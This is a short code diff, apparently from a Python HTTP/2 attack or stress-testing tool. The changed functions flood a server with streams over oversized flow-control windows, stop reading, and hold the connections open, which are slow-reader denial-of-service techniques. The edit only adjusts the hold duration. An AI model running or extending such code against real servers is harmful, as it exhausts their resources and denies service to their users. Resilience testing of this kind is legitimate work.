@@ -37,7 +37,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HELLO = PREFACE + SettingsFrame(0).serialize()
 LARGEST_WINDOW = 2**31 - 1
 MAX_FRAME = 16_384
-HOLD_SECONDS = 6.0
+HOLD_SECONDS, SHORT_HOLD_SECONDS = 6.0, 2.0
 """How long who reads nothing stays: longer than the server's patience with it."""
 
 Pieces = Callable[[], Iterator[bytes]]
@@ -171,7 +171,7 @@ def stopped_reader(attack: Attack) -> None:
         connection = attack.connect(reads=False, http2=True)
         connection.send(HELLO + opened(0, LARGEST_WINDOW - 65_535) + window(LARGEST_WINDOW))
         connection.send(b"".join(request(stream_id, FOLLOW) for stream_id in range(1, 201, 2)))
-        connection.hold(min(attack.patience, HOLD_SECONDS))
+        connection.hold(HOLD_SECONDS if attack.is_at_full_strength else SHORT_HOLD_SECONDS)
         attack.over(connection)
 
 
@@ -195,7 +195,7 @@ def unread_pages(attack: Attack) -> None:
         connection.send(HELLO + opened(0, LARGEST_WINDOW - 65_535) + window(LARGEST_WINDOW))
         connection.keep_little()
         connection.flood(requests(PAGE)(), attack.until)
-        connection.hold(min(attack.patience, HOLD_SECONDS))
+        connection.hold(HOLD_SECONDS if attack.is_at_full_strength else SHORT_HOLD_SECONDS)
         attack.over(connection)
 
 
